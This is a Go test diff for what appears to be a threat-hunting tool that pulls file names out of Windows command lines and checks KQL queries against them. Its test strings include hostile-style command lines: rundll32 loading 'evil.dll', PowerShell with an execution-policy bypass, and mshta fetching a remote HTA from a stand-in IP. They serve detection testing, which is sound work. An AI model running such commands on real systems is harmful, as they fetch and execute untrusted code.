@@ -130,3 +130,28 @@ func TestReportShowsQueryHits(t *testing.T) {
 		}
 	}
 }
+
+func TestFileArgument(t *testing.T) {
+	tests := []struct {
+		line, image, want string
+	}{
+		{`rundll32.exe C:\Users\PEDRO~1.GUS\AppData\Local\Temp\rtcpef.dll,a /p:rtcpef`, "rundll32.exe", "rtcpef.dll"},
+		{`"C:\Windows\System32\rundll32.exe" "C:\Temp\x y\evil.dll",Start`, "rundll32.exe", "evil.dll"},
+		{`powershell -ep bypass -f C:\Users\bob\run.PS1`, "powershell.exe", "run.PS1"},
+		{`mshta.exe http://203.0.113.7/a.hta`, "mshta.exe", "a.hta"},
+		{`C:\Windows\System32\svchost.exe -k netsvcs`, "svchost.exe", ""},
+		{`cmd.exe /c whoami`, "cmd.exe", ""},
+	}
+	for _, tc := range tests {
+		got, ok := fileArgument(tc.line, tc.image)
+		if got != tc.want || ok != (tc.want != "") {
+			t.Errorf("fileArgument(%q) = %q, %v; want %q", tc.line, got, ok, tc.want)
+		}
+		if ok {
+			n := kql.Match{Field: "CommandLine", Value: kql.Wildcard(true, true, got)}
+			if !kql.Eval(n, kql.MapDoc{"CommandLine": tc.line}) {
+				t.Errorf("the query on %q does not match its own line", got)
+			}
+		}
+	}
+}
